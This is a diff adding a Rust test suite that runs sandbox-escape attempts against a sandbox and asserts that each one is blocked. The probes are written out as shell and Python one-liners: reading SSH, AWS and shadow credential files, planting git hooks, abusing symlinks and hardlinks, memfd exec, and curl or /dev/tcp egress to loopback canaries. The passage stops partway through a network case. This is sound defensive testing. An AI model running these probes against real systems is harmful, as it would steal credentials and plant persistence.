@@ -1,0 +1,1779 @@
+//! The escape suite: every abuse case of `ESCAPES.md` (A–H, and the parts of I the sandbox
+//! alone can check), run through `ollie_sandbox::run` — the code path toolsrv uses.
+//!
+//! Each case checks (1) exit status / errno, (2) that the side effect is absent (canary hashes,
+//! markers, canary listeners), (3) that the runner is healthy afterwards, and (4) the run
+//! record (layers active). Network cases use loopback canaries the test starts itself.
+//!
+//! Without Landlock ABI 7 or user namespaces a case prints `SKIP <case>: <reason>`; with
+//! `OLLIE_TEST_REQUIRE=all` it fails instead.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use ollie_policy::Policy;
+use ollie_sandbox::{Cancel, Fault, RunOutput, RunRequest, SandboxError};
+use std::collections::BTreeMap;
+use std::ffi::OsString;
+use std::io::Read;
+use std::net::{TcpListener, UdpSocket};
+use std::os::unix::fs::PermissionsExt;
+use std::os::unix::net::UnixListener;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+const PROBE_PY: &str = include_str!("escapes/t.py");
+
+// ---------------------------------------------------------------------------------------------
+// Harness
+
+/// Prints a SKIP line past libtest's output capture, so skips are always visible.
+fn skip(line: &str) {
+    use std::io::Write;
+    let _ = writeln!(std::io::stderr(), "{line}");
+}
+
+fn features_ok(case: &str) -> bool {
+    let p = ollie_sandbox::probe();
+    let missing = if p.landlock_abi < 7 {
+        Some(format!("landlock ABI {} < 7", p.landlock_abi))
+    } else if !p.user_namespaces {
+        Some("user namespaces are disabled".to_string())
+    } else {
+        None
+    };
+    match missing {
+        None => true,
+        Some(reason) => {
+            if std::env::var("OLLIE_TEST_REQUIRE").as_deref() == Ok("all") {
+                panic!("{case}: required kernel feature missing: {reason}");
+            }
+            skip(&format!("SKIP {case}: {reason}"));
+            false
+        }
+    }
+}
+
+fn is_root() -> bool {
+    nix::unistd::geteuid().is_root()
+}
+
+fn token() -> String {
+    let n = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_nanos();
+    format!("{:x}{:x}", std::process::id(), n)
+}
+
+/// One case's private world: a workspace `w/`, a fake home with canaries, canary env vars.
+struct Ctx {
+    name: String,
+    root: PathBuf,
+    w: PathBuf,
+    home: PathBuf,
+    /// Secret canary files (path, content): never readable from inside.
+    secrets: Vec<(PathBuf, String)>,
+    /// Secret canary environment variables (name, value): never visible inside.
+    env: Vec<(String, String)>,
+    /// Non-secret host files whose content must not change.
+    watched: Vec<PathBuf>,
+}
+
+fn sha(p: &Path) -> Option<Vec<u8>> {
+    std::fs::read(p).ok()
+}
+
+impl Ctx {
+    fn new(name: &str) -> Ctx {
+        let root = std::env::temp_dir().join(format!("ollie-esc-{}-{name}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&root);
+        let w = root.join("w");
+        let home = root.join("home");
+        std::fs::create_dir_all(&w).unwrap();
+        std::fs::create_dir_all(&home).unwrap();
+        std::fs::set_permissions(&root, std::fs::Permissions::from_mode(0o755)).unwrap();
+        let tok = token();
+        let mut secrets = Vec::new();
+        for rel in [
+            ".ssh/id_ed25519",
+            ".aws/credentials",
+            ".netrc",
+            ".config/gh/hosts.yml",
+            ".docker/config.json",
+            ".kube/config",
+            ".git-credentials",
+            ".config/ollie/config.toml",
+        ] {
+            let p = home.join(rel);
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            let v = format!("CANARY-{}-{tok}", rel.replace(['/', '.'], "_"));
+            std::fs::write(&p, &v).unwrap();
+            secrets.push((p, v));
+        }
+        std::fs::write(home.join(".profile"), "# profile canary\n").unwrap();
+        std::fs::write(home.join(".bashrc"), "# bashrc canary\n").unwrap();
+        std::fs::set_permissions(home.join(".ssh"), std::fs::Permissions::from_mode(0o700))
+            .unwrap();
+        std::fs::write(w.join("t.py"), PROBE_PY).unwrap();
+        let env = [
+            "OPENAI_API_KEY",
+            "ANTHROPIC_API_KEY",
+            "AWS_SECRET_ACCESS_KEY",
+            "GITHUB_TOKEN",
+            "SSH_AUTH_SOCK",
+            "DBUS_SESSION_BUS_ADDRESS",
+            "XDG_RUNTIME_DIR",
+            "KUBECONFIG",
+            "OLLIE_BROKER_ADDR",
+        ]
+        .iter()
+        .map(|k| (k.to_string(), format!("ENVCANARY-{k}-{tok}")))
+        .collect();
+        let watched = vec![home.join(".profile"), home.join(".bashrc")];
+        Ctx {
+            name: name.to_string(),
+            root,
+            w,
+            home,
+            secrets,
+            env,
+            watched,
+        }
+    }
+
+    fn hashes(&self) -> Vec<Option<Vec<u8>>> {
+        self.secrets
+            .iter()
+            .map(|(p, _)| p.clone())
+            .chain(self.watched.iter().cloned())
+            .map(|p| sha(&p))
+            .collect()
+    }
+
+    fn request(&self, argv: &[&str]) -> RunRequest {
+        let mut req = RunRequest::new(argv.iter().map(OsString::from).collect(), self.w.clone());
+        req.home = self.home.clone();
+        req.base_env = vec![
+            ("LANG".into(), "C.UTF-8".into()),
+            ("PATH".into(), "/should/not/leak".into()),
+        ];
+        for (k, v) in &self.env {
+            req.base_env.push((k.into(), v.into()));
+        }
+        req
+    }
+
+    fn run_with(&self, policy: &Policy, req: &RunRequest) -> RunOutput {
+        let before = self.hashes();
+        let out = ollie_sandbox::run(policy, req)
+            .unwrap_or_else(|e| panic!("{}: run refused: {:#}", self.name, anyhow_chain(&e)));
+        assert_eq!(
+            before,
+            self.hashes(),
+            "{}: a canary file changed",
+            self.name
+        );
+        self.check_record(&out);
+        self.check_no_leak(&out, &[]);
+        self.check_healthy(policy);
+        out
+    }
+
+    /// Runs `bash -c script` under `policy` and applies the common checks.
+    fn run(&self, policy: &Policy, script: &str) -> RunOutput {
+        let req = self.request(&["bash", "-c", script]);
+        self.run_with(policy, &req)
+    }
+
+    fn check_record(&self, out: &RunOutput) {
+        let r = &out.record;
+        let ll = &r.layers.landlock;
+        assert!(ll.abi >= 7, "{}: landlock abi", self.name);
+        assert_eq!(
+            serde_json::to_value(ll.status).unwrap(),
+            "fully_enforced",
+            "{}",
+            self.name
+        );
+        assert_eq!(
+            ll.handled_fs.len(),
+            16,
+            "{}: all ABI-7 fs rights handled",
+            self.name
+        );
+        assert_eq!(
+            ll.scopes,
+            vec!["abstract_unix_socket", "signal"],
+            "{}",
+            self.name
+        );
+        assert_eq!(
+            ll.handled_net,
+            vec!["bind_tcp", "connect_tcp"],
+            "{}",
+            self.name
+        );
+        assert_eq!(r.layers.seccomp.filters, 2, "{}", self.name);
+        assert!(r.layers.no_new_privs);
+        assert_eq!(r.layers.capabilities.bounding, 0);
+        assert_eq!(r.layers.namespaces, vec!["user", "pid", "mount", "ipc"]);
+        assert!(r.layers.mounts.read_only_root);
+        assert!(!r.layers.best_effort_degraded);
+        let json: serde_json::Value = serde_json::from_str(&r.to_json()).unwrap();
+        assert!(json["layers"]["landlock"]["abi"].is_number());
+        assert!(json["exit"]["status"].is_number());
+    }
+
+    /// Case 49: no canary value in the record, the captured output or the workspace.
+    fn check_no_leak(&self, out: &RunOutput, allowed: &[&str]) {
+        let mut hay = String::new();
+        hay.push_str(&out.record.to_json());
+        hay.push_str(&String::from_utf8_lossy(&out.stdout));
+        hay.push_str(&String::from_utf8_lossy(&out.stderr));
+        for e in walk(&self.w) {
+            if let Ok(b) = std::fs::read(&e) {
+                hay.push_str(&String::from_utf8_lossy(&b));
+            }
+        }
+        for v in self
+            .secrets
+            .iter()
+            .map(|(_, v)| v.as_str())
+            .chain(self.env.iter().map(|(_, v)| v.as_str()))
+        {
+            if allowed.contains(&v) {
+                continue;
+            }
+            assert!(!hay.contains(v), "{}: canary {v} leaked", self.name);
+        }
+    }
+
+    /// Case "runner healthy": another run works right after.
+    fn check_healthy(&self, policy: &Policy) {
+        let req = self.request(&["/bin/true"]);
+        let out = ollie_sandbox::run(policy, &req).expect("runner healthy");
+        assert_eq!(
+            out.record.exit.status, 0,
+            "{}: runner unhealthy after case",
+            self.name
+        );
+    }
+}
+
+impl Drop for Ctx {
+    fn drop(&mut self) {
+        // Protected islands may be read-only only inside the sandbox; the host can clean up.
+        let _ = std::fs::remove_dir_all(&self.root);
+    }
+}
+
+fn walk(dir: &Path) -> Vec<PathBuf> {
+    let mut out = Vec::new();
+    let Ok(rd) = std::fs::read_dir(dir) else {
+        return out;
+    };
+    for e in rd.flatten() {
+        let p = e.path();
+        match e.file_type() {
+            Ok(t) if t.is_dir() => out.extend(walk(&p)),
+            Ok(t) if t.is_file() => out.push(p),
+            _ => {}
+        }
+    }
+    out
+}
+
+fn anyhow_chain(e: &SandboxError) -> String {
+    let mut s = e.to_string();
+    let mut cur: Option<&dyn std::error::Error> = std::error::Error::source(e);
+    while let Some(c) = cur {
+        s.push_str(": ");
+        s.push_str(&c.to_string());
+        cur = c.source();
+    }
+    s
+}
+
+fn profile_text(name: &str) -> String {
+    ollie_policy::SHIPPED_PROFILES
+        .iter()
+        .find(|(n, _)| *n == name)
+        .unwrap()
+        .1
+        .to_string()
+}
+
+/// P-std: the shipped default profile.
+fn p_std() -> Policy {
+    Policy::from_toml(&profile_text("workspace")).unwrap()
+}
+
+/// P-ro: P-std plus "the rest of the filesystem read-only" (secrets carved out).
+fn p_ro() -> Policy {
+    Policy::from_toml(&profile_text("workspace").replace("[fs]\n", "[fs]\nread_all = true\n"))
+        .unwrap()
+}
+
+/// P-std with edits to the TOML text.
+fn p_std_with(edit: impl Fn(String) -> String) -> Policy {
+    Policy::from_toml(&edit(profile_text("workspace"))).unwrap()
+}
+
+fn with_limits(text: String, limits: &str) -> String {
+    let start = text.find("[limits]").unwrap();
+    let end = text[start..].find("\n[env]").unwrap() + start;
+    format!("{}[limits]\n{limits}\n{}", &text[..start], &text[end..])
+}
+
+fn lines(out: &RunOutput) -> BTreeMap<String, String> {
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter_map(|l| {
+            let mut it = l.splitn(2, ' ');
+            Some((
+                it.next()?.to_string(),
+                it.next().unwrap_or("").trim().to_string(),
+            ))
+        })
+        .collect()
+}
+
+#[track_caller]
+fn expect(out: &RunOutput, label: &str, allowed: &[&str]) {
+    let m = lines(out);
+    let got = m.get(label).unwrap_or_else(|| {
+        panic!(
+            "probe {label} printed nothing; stdout:\n{}\nstderr:\n{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        )
+    });
+    assert!(
+        allowed.contains(&got.as_str()),
+        "probe {label}: got {got}, expected one of {allowed:?}\nstderr:\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// A shell probe printed a non-zero status.
+#[track_caller]
+fn expect_fail(out: &RunOutput, label: &str) {
+    let m = lines(out);
+    let got = m
+        .get(label)
+        .unwrap_or_else(|| panic!("probe {label} printed nothing: {:?}", out.stdout));
+    assert_ne!(
+        got,
+        "0",
+        "probe {label} succeeded; stderr: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+const DENIED_W: &[&str] = &["EACCES", "EROFS", "EPERM"];
+
+fn assert_absent(paths: &[&str]) {
+    for p in paths {
+        assert!(!Path::new(p).exists(), "{p} was created");
+    }
+}
+
+fn py(code: &str) -> String {
+    format!("python3 -c \"from t import *; {code}\"")
+}
+
+macro_rules! case {
+    ($name:ident, $body:expr) => {
+        #[test]
+        fn $name() {
+            if !features_ok(stringify!($name)) {
+                return;
+            }
+            let ctx = Ctx::new(stringify!($name));
+            let f: fn(&Ctx) = $body;
+            f(&ctx);
+        }
+    };
+}
+
+// ---------------------------------------------------------------------------------------------
+// A. Filesystem
+
+case!(a01_write_outside_workspace_and_aliases, |c| {
+    let bashrc = c.home.join(".bashrc");
+    let out = c.run(
+        &p_std(),
+        &py(&format!(
+            "t('etc', lambda: write('/etc/sbx')); t('bashrc', lambda: write('{}', 'a')); \
+             t('dotdot', lambda: write('../../../tmp/sbx')); t('slashes', lambda: write('//etc/sbx')); \
+             t('procroot', lambda: write('/proc/self/root/etc/sbx')); t('proc1', lambda: write('/proc/1/cwd/sbx'))",
+            bashrc.display()
+        )),
+    );
+    for l in ["etc", "bashrc", "dotdot", "slashes", "procroot"] {
+        expect(&out, l, DENIED_W);
+    }
+    expect(&out, "proc1", &["EACCES", "ENOENT", "EROFS"]);
+    assert_absent(&["/etc/sbx", "/tmp/sbx"]);
+});
+
+case!(a02_truncate_readonly_file, |c| {
+    let prof = c.home.join(".profile");
+    let out = c.run(
+        &p_ro(),
+        &format!(
+            "truncate -s0 {p}; echo \"trunc $?\"; : > {p}; echo \"redir $?\"; {}",
+            py(&format!(
+                "t('ostrunc', lambda: os.truncate('{}', 0))",
+                prof.display()
+            )),
+            p = prof.display()
+        ),
+    );
+    expect_fail(&out, "trunc");
+    expect_fail(&out, "redir");
+    expect(&out, "ostrunc", DENIED_W);
+    assert_eq!(
+        std::fs::read_to_string(&prof).unwrap(),
+        "# profile canary\n"
+    );
+});
+
+case!(a03_write_through_planted_symlink, |c| {
+    let out = c.run(
+        &p_std(),
+        &py(&format!(
+            "t('mkrc', lambda: os.symlink('{}', 'rc')); t('wrc', lambda: write('rc', 'a')); \
+             t('mketc', lambda: os.symlink('/etc', 'etc')); t('wetc', lambda: write('etc/sbx'))",
+            c.home.join(".bashrc").display()
+        )),
+    );
+    expect(&out, "mkrc", &["OK"]);
+    expect(&out, "mketc", &["OK"]);
+    expect(&out, "wrc", DENIED_W);
+    expect(&out, "wetc", DENIED_W);
+    assert_absent(&["/etc/sbx"]);
+});
+
+case!(a04_hardlink_laundering, |c| {
+    let out = c.run(
+        &p_ro(),
+        &py(&format!(
+            "t('ln', lambda: os.link('{}', 'p')); t('append', lambda: write('p', 'a'))",
+            c.home.join(".profile").display()
+        )),
+    );
+    expect(&out, "ln", &["EXDEV", "EACCES", "EPERM"]);
+    expect(&out, "append", &["OK"]); // creates a new, unrelated file /w/p
+    assert_eq!(
+        std::fs::read_to_string(c.home.join(".profile")).unwrap(),
+        "# profile canary\n"
+    );
+});
+
+case!(a05_rename_inside_ok_across_denied, |c| {
+    let out = c.run(
+        &p_ro(),
+        &format!(
+            "mkdir -p a b && touch a/f && mv a/f b/f && echo 'inside OK'; {}",
+            py(&format!(
+                "t('homein', lambda: os.rename('{}', 'profile')); t('etcout', lambda: os.rename('b/f', '/etc/f'))",
+                c.home.join(".profile").display()
+            ))
+        ),
+    );
+    expect(&out, "inside", &["OK"]);
+    expect(&out, "homein", &["EXDEV", "EACCES", "EROFS"]);
+    expect(&out, "etcout", &["EXDEV", "EACCES", "EROFS"]);
+    assert!(c.w.join("b/f").exists());
+    assert_absent(&["/etc/f"]);
+    assert!(c.home.join(".profile").exists());
+});
+
+case!(a06_persistence_in_git_and_editor_metadata, |c| {
+    // Protected paths exist before the run (the mount namespace binds them read-only).
+    assert!(
+        Command::new("git")
+            .args(["init", "-q"])
+            .current_dir(&c.w)
+            .status()
+            .unwrap()
+            .success()
+    );
+    for d in [".claude", ".vscode"] {
+        std::fs::create_dir_all(c.w.join(d)).unwrap();
+    }
+    std::fs::write(c.w.join(".envrc"), "").unwrap();
+    let config_before = std::fs::read(c.w.join(".git/config")).unwrap();
+    let pol = p_std_with(|t| {
+        t.replace(
+            "protected = [",
+            "protected = [\"{workdir}/.git\", \"{workdir}/.claude\", \"{workdir}/.vscode\", \"{workdir}/.envrc\", ",
+        )
+    });
+    let out = c.run(
+        &pol,
+        "printf '#!/bin/sh\\ntouch /tmp/hook\\n' > .git/hooks/pre-commit; echo \"hook $?\"; \
+         git config core.hooksPath .hooks; echo \"hookspath $?\"; \
+         git config core.fsmonitor 'touch /tmp/fsm'; echo \"fsmonitor $?\"; \
+         echo '{}' > .claude/settings.json; echo \"claude $?\"; \
+         echo 'eval x' > .envrc; echo \"envrc $?\"; mkdir .vscode/x; echo \"vscode $?\"; \
+         mkdir -p vendor/x && git -C vendor/x init -q; echo \"nested $?\"",
+    );
+    for l in [
+        "hook",
+        "hookspath",
+        "fsmonitor",
+        "claude",
+        "envrc",
+        "vscode",
+    ] {
+        expect_fail(&out, l);
+    }
+    // Residual (documented): nested repositories outside the protected list are writable.
+    expect(&out, "nested", &["0"]);
+    assert!(!c.w.join(".git/hooks/pre-commit").exists());
+    assert!(!c.w.join(".claude/settings.json").exists());
+    assert_eq!(
+        std::fs::read(c.w.join(".git/config")).unwrap(),
+        config_before
+    );
+    assert_eq!(std::fs::read_to_string(c.w.join(".envrc")).unwrap(), "");
+    for p in [".git", ".claude", ".vscode", ".envrc"] {
+        let want = c.w.canonicalize().unwrap().join(p);
+        assert!(
+            out.record.layers.mounts.protected.contains(&want),
+            "{p} not protected"
+        );
+    }
+});
+
+case!(a07_metadata_changes_on_readonly_paths, |c| {
+    let (ssh, bashrc, prof) = (
+        c.home.join(".ssh"),
+        c.home.join(".bashrc"),
+        c.home.join(".profile"),
+    );
+    let modes = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode();
+    let before = (
+        modes(&ssh),
+        modes(&bashrc),
+        std::fs::metadata(&prof).unwrap().modified().unwrap(),
+    );
+    let out = c.run(
+        &p_ro(),
+        &format!(
+            "{}; touch f && chmod +x f && test -x f && echo 'chmodws OK'",
+            py(&format!(
+                "t('chmod', lambda: os.chmod('{}', 0o777)); t('chmod0', lambda: os.chmod('{}', 0)); \
+                 t('utime', lambda: os.utime('{}', (978307200, 978307200))); \
+                 t('xattr', lambda: os.setxattr('{}', 'user.sbx', b'1')); \
+                 t('chown', lambda: os.chown('/etc/hostname', os.getuid(), -1))",
+                ssh.display(),
+                bashrc.display(),
+                prof.display(),
+                prof.display()
+            ))
+        ),
+    );
+    for l in ["chmod", "chmod0", "utime", "xattr", "chown"] {
+        expect(&out, l, &["EROFS", "EPERM"]);
+    }
+    expect(&out, "chmodws", &["OK"]);
+    let after = (
+        modes(&ssh),
+        modes(&bashrc),
+        std::fs::metadata(&prof).unwrap().modified().unwrap(),
+    );
+    assert_eq!(before, after);
+});
+
+case!(a08_flock_dos_ends_with_the_run, |c| {
+    std::fs::create_dir_all(c.w.join(".git")).unwrap();
+    std::fs::write(c.w.join(".git/index"), "").unwrap();
+    let out = c.run(
+        &p_std(),
+        "(flock -x /etc/passwd sleep 600 &); \
+         python3 -c \"import fcntl,time;f=open('.git/index','rb');fcntl.flock(f,fcntl.LOCK_EX);time.sleep(600)\" & \
+         sleep 0.5; echo started 1",
+    );
+    expect(&out, "started", &["1"]);
+    assert!(!out.record.exit.timed_out);
+    let st = Command::new("flock")
+        .args(["-n", "/etc/passwd", "true"])
+        .status()
+        .unwrap();
+    assert!(st.success(), "host lock on /etc/passwd survived the run");
+    let st = Command::new("flock")
+        .args(["-n", c.w.join(".git/index").to_str().unwrap(), "true"])
+        .status()
+        .unwrap();
+    assert!(st.success(), "lock on .git/index survived the run");
+});
+
+case!(a09_device_nodes_fifos_sockets, |c| {
+    let out = c.run(
+        &p_std(),
+        &format!(
+            "mknod mem c 1 1; echo \"mknod $?\"; mkfifo fifo && echo 'fifo OK'; mkfifo /tmp/fifo-{n}; echo \"tmpfifo $?\"; {}",
+            py("t('unixbind', lambda: socket.socket(socket.AF_UNIX).bind('s.sock'))"),
+            n = c.name
+        ),
+    );
+    expect_fail(&out, "mknod");
+    expect(&out, "fifo", &["OK"]);
+    expect_fail(&out, "tmpfifo");
+    expect(&out, "unixbind", &["EPERM"]);
+    assert!(!c.w.join("mem").exists());
+    assert!(!c.w.join("s.sock").exists());
+    assert_absent(&[&format!("/tmp/fifo-{}", c.name)]);
+});
+
+case!(a10_device_ioctls_and_controlling_tty, |c| {
+    let out = c.run(
+        &p_std(),
+        &py("import termios,array; t('fionread', lambda: fcntl.ioctl(open('/dev/zero','rb'), termios.FIONREAD, array.array('i',[0]))); \
+             t('tty', lambda: os.open('/dev/tty', os.O_RDWR))"),
+    );
+    expect(&out, "fionread", &["EACCES"]);
+    expect(&out, "tty", &["ENXIO"]);
+});
+
+case!(a11_proc_sys_and_cgroup_writes, |c| {
+    let out = c.run(
+        &p_std(),
+        &py("t('sysrq', lambda: write('/proc/sys/kernel/sysrq')); t('trigger', lambda: write('/proc/sysrq-trigger')); \
+             t('dmesg', lambda: write('/proc/sys/kernel/dmesg_restrict')); \
+             t('cgv1', lambda: write('/sys/fs/cgroup/pids/cgroup.procs')); \
+             t('cgv2', lambda: write('/sys/fs/cgroup/unified/cgroup.procs'))"),
+    );
+    for l in ["sysrq", "trigger", "dmesg", "cgv1", "cgv2"] {
+        expect(&out, l, &["EACCES", "EROFS", "EPERM", "ENOENT"]);
+    }
+    // The run stayed in its cgroup (root) — the record names it and it is gone afterwards.
+    if is_root() {
+        let cg = out
+            .record
+            .layers
+            .cgroup
+            .clone()
+            .expect("root runs use a pids cgroup");
+        assert!(!cg.exists(), "cgroup {} not cleaned up", cg.display());
+    }
+});
+
+case!(a12_chroot_mount_namespaces, |c| {
+    let out = c.run(
+        &p_std(),
+        &format!(
+            "unshare -Urm sh -c 'mount -t tmpfs t .git'; echo \"unshare $?\"; mount --bind . /etc; echo \"mount $?\"; {}",
+            py("t('chroot', lambda: os.chroot('.'))")
+        ),
+    );
+    expect_fail(&out, "unshare");
+    expect_fail(&out, "mount");
+    expect(&out, "chroot", &["EPERM"]);
+});
+
+case!(a13_exec_restriction_is_not_a_boundary, |c| {
+    let pol = p_std_with(|t| t.replace("\"/opt\", \"{workdir}\"]", "\"/opt\"]"));
+    let out = c.run(
+        &pol,
+        "cp /bin/true ./t; ./t; echo \"direct $?\"; /lib64/ld-linux-x86-64.so.2 ./t; echo \"ldso $?\"; \
+         printf 'exit 0\\n' > s.sh; bash s.sh; echo \"interp $?\"; \
+         python3 -c \"import os;f=os.memfd_create('x');os.write(f,open('/bin/true','rb').read());os.execv(f'/proc/self/fd/{f}',['x'])\"; echo \"memfd $?\"",
+    );
+    expect(&out, "direct", &["126"]);
+    // Documented residual risks: the loader and interpreters run code from /w regardless.
+    expect(&out, "ldso", &["0"]);
+    expect(&out, "interp", &["0"]);
+    // memfd exec also runs on this kernel (memfd files live on an internal mount Landlock
+    // does not mediate): recorded in SECURITY.md, asserted so a change is noticed.
+    expect(&out, "memfd", &["0"]);
+});
+
+fn secrets_script(c: &Ctx) -> String {
+    let mut s = String::new();
+    for (i, (p, _)) in c.secrets.iter().enumerate() {
+        s.push_str(&format!(
+            "cat {} >/dev/null 2>&1; echo \"s{i} $?\"; ",
+            p.display()
+        ));
+    }
+    s.push_str("cat /etc/shadow >/dev/null 2>&1; echo \"shadow $?\"; ");
+    s.push_str("cat /root/.bash_history >/dev/null 2>&1; echo \"roothist $?\"; ");
+    s.push_str(&format!(
+        "HOME={} git credential fill <<<'url=https://github.com' 2>/dev/null </dev/null; echo \"gitcred $?\"; ",
+        c.home.display()
+    ));
+    s
+}
+
+case!(a14_reading_secrets_std_and_ro, |c| {
+    for pol in [p_std(), p_ro()] {
+        let out = c.run(&pol, &secrets_script(c));
+        for i in 0..c.secrets.len() {
+            expect_fail(&out, &format!("s{i}"));
+        }
+        expect_fail(&out, "shadow");
+        expect_fail(&out, "roothist");
+    }
+    // The carve-out is visible in the P-ro record.
+    let out = c.run(&p_ro(), "true");
+    let carved = &out.record.layers.landlock.carved_out;
+    assert!(carved.iter().any(|p| p.ends_with(".ssh")), "{carved:?}");
+    assert!(
+        carved.iter().any(|p| p == Path::new("/etc/shadow")),
+        "{carved:?}"
+    );
+});
+
+case!(a15_shared_tmp_and_shm, |c| {
+    let n = &c.name;
+    let out = c.run(
+        &p_std(),
+        &py(&format!(
+            "t('tmp', lambda: write('/tmp/sbx-{n}')); t('shm', lambda: write('/dev/shm/sbx-{n}')); \
+             t('symlink', lambda: os.symlink('{}', '/tmp/app-{n}.log')); \
+             from multiprocessing import shared_memory as s; t('shmem', lambda: s.SharedMemory(create=True,size=4096))",
+            c.home.join(".bashrc").display()
+        )),
+    );
+    for l in ["tmp", "shm", "symlink"] {
+        expect(&out, l, DENIED_W);
+    }
+    expect(
+        &out,
+        "shmem",
+        &["EACCES", "EROFS", "EPERM", "FileNotFoundError"],
+    );
+    assert_absent(&[
+        &format!("/tmp/sbx-{n}"),
+        &format!("/dev/shm/sbx-{n}"),
+        &format!("/tmp/app-{n}.log"),
+    ]);
+});
+
+case!(a16_workspace_is_home_secrets_stay_closed, |c| {
+    // A user runs a tool with $HOME as the workspace. Secrets stay unreadable and their
+    // metadata cannot change; existing non-secret entries are writable. Documented limitation:
+    // the carved directory itself (home) gets no rule, so nothing new can be created at its top.
+    std::fs::create_dir_all(c.home.join("proj")).unwrap();
+    let probe = format!(
+        "{PROBE_PY}\nt('read', lambda: open('.ssh/id_ed25519').read())\n\
+         t('chmod', lambda: os.chmod('.ssh', 0o777))\n\
+         t('create', lambda: write('.ssh/authorized_keys'))\n\
+         t('rename', lambda: os.rename('.aws', 'aws2'))\n\
+         t('sub', lambda: write('proj/notes.txt'))\n\
+         t('top', lambda: write('notes.txt'))\n"
+    );
+    std::fs::write(c.home.join("proj/probe.py"), probe).unwrap();
+    let script = c.home.join("proj/probe.py");
+    let mut req = c.request(&["python3", script.to_str().unwrap()]);
+    req.workdir = c.home.clone();
+    let ssh_mode = std::fs::metadata(c.home.join(".ssh"))
+        .unwrap()
+        .permissions()
+        .mode();
+    let out = c.run_with(&p_std(), &req);
+    expect(&out, "read", &["EACCES"]);
+    expect(&out, "chmod", &["EROFS", "EPERM"]);
+    expect(&out, "create", DENIED_W);
+    expect(&out, "rename", &["EBUSY", "EACCES", "EROFS", "EXDEV"]);
+    expect(&out, "sub", &["OK"]);
+    expect(&out, "top", &["EACCES"]);
+    assert_eq!(
+        std::fs::metadata(c.home.join(".ssh"))
+            .unwrap()
+            .permissions()
+            .mode(),
+        ssh_mode
+    );
+    assert!(!c.home.join(".ssh/authorized_keys").exists());
+    assert!(c.home.join(".aws").exists());
+    assert!(c.home.join("proj/notes.txt").exists());
+    let carved = &out.record.layers.landlock.carved_out;
+    assert!(carved.iter().any(|p| p.ends_with(".ssh")), "{carved:?}");
+});
+
+case!(a17_read_all_never_grants_devices, |c| {
+    // "Rest of the filesystem read-only" must not include raw block devices (as root they
+    // would bypass every file rule) or the kernel log; named devices still work.
+    let mut devs: Vec<String> = std::fs::read_dir("/sys/class/block")
+        .map(|rd| {
+            rd.flatten()
+                .map(|e| format!("/dev/{}", e.file_name().to_string_lossy()))
+                .filter(|p| Path::new(p).exists())
+                .collect()
+        })
+        .unwrap_or_default();
+    devs.push("/dev/kmsg".into());
+    let mut code = String::new();
+    for (i, d) in devs.iter().enumerate() {
+        code.push_str(&format!("t('dev{i}', lambda: open('{d}', 'rb').read(1)); "));
+    }
+    code.push_str("t('null', lambda: open('/dev/null', 'rb').read(1)); t('urandom', lambda: open('/dev/urandom', 'rb').read(1))");
+    let out = c.run(&p_ro(), &py(&code));
+    for i in 0..devs.len() {
+        expect(&out, &format!("dev{i}"), &["EACCES"]);
+    }
+    expect(&out, "null", &["OK"]);
+    expect(&out, "urandom", &["OK"]);
+    let carved = &out.record.layers.landlock.carved_out;
+    assert!(carved.iter().any(|p| p == Path::new("/dev")), "{carved:?}");
+});
+
+// ---------------------------------------------------------------------------------------------
+// B. Network
+
+struct TcpCanary(TcpListener);
+
+impl TcpCanary {
+    fn v4() -> TcpCanary {
+        let l = TcpListener::bind("127.0.0.1:0").unwrap();
+        l.set_nonblocking(true).unwrap();
+        TcpCanary(l)
+    }
+    fn port(&self) -> u16 {
+        self.0.local_addr().unwrap().port()
+    }
+    #[track_caller]
+    fn assert_untouched(&self) {
+        match self.0.accept() {
+            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
+            other => panic!("canary listener got a connection: {other:?}"),
+        }
+    }
+}
+
+case!(b16_plain_egress, |c| {
+    let (a, b) = (TcpCanary::v4(), TcpCanary::v4());
+    let (p, q) = (a.port(), b.port());
+    let out = c.run(
+        &p_std(),
+        &format!(
+            "curl -m3 -sI http://127.0.0.1:{p}/ >/dev/null 2>&1; echo \"curl $?\"; \
+             wget -t1 -T3 -qO- http://127.0.0.1:{p}/ >/dev/null 2>&1; echo \"wget $?\"; \
+             bash -c 'echo > /dev/tcp/127.0.0.1/{p}' 2>/dev/null; echo \"devtcp $?\"; \
+             ssh -o BatchMode=yes -o ConnectTimeout=2 -p {q} 127.0.0.1 true >/dev/null 2>&1; echo \"ssh $?\"; {}",
+            py(&format!("t('pyconnect', lambda: socket.create_connection(('127.0.0.1', {p}), 2))"))
+        ),
+    );
+    for l in ["curl", "wget", "devtcp", "ssh"] {
+        expect_fail(&out, l);
+    }
+    expect(&out, "pyconnect", &["EPERM"]);
+    a.assert_untouched();
+    b.assert_untouched();
+});
+
+case!(b17_loopback_services, |c| {
+    let a = TcpCanary::v4();
+    let p = a.port();
+    let v6 = TcpListener::bind("[::1]:0").ok();
+    if let Some(l) = &v6 {
+        l.set_nonblocking(true).unwrap();
+    }
+    let p6 = v6.as_ref().map_or(p, |l| l.local_addr().unwrap().port());
+    let out = c.run(
+        &p_std(),
+        &format!(
+            "curl -m3 -s http://127.0.0.1:{p}/ >/dev/null 2>&1; echo \"v4 $?\"; \
+             curl -m3 -s 'http://[::1]:{p6}/' >/dev/null 2>&1; echo \"v6 $?\"; \
+             curl -m3 -s http://localhost:{p}/ >/dev/null 2>&1; echo \"localhost $?\""
+        ),
+    );
+    for l in ["v4", "v6", "localhost"] {
+        expect_fail(&out, l);
+    }
+    a.assert_untouched();
+    if let Some(l) = v6 {
+        assert!(l.accept().is_err());
+    }
+});
+
+case!(b18_udp_and_dns_exfiltration, |c| {
+    let u = UdpSocket::bind("127.0.0.1:0").unwrap();
+    u.set_nonblocking(true).unwrap();
+    let p = u.local_addr().unwrap().port();
+    std::fs::write(c.w.join("secret"), "workspace-secret").unwrap();
+    let out = c.run(
+        &p_std(),
+        &format!(
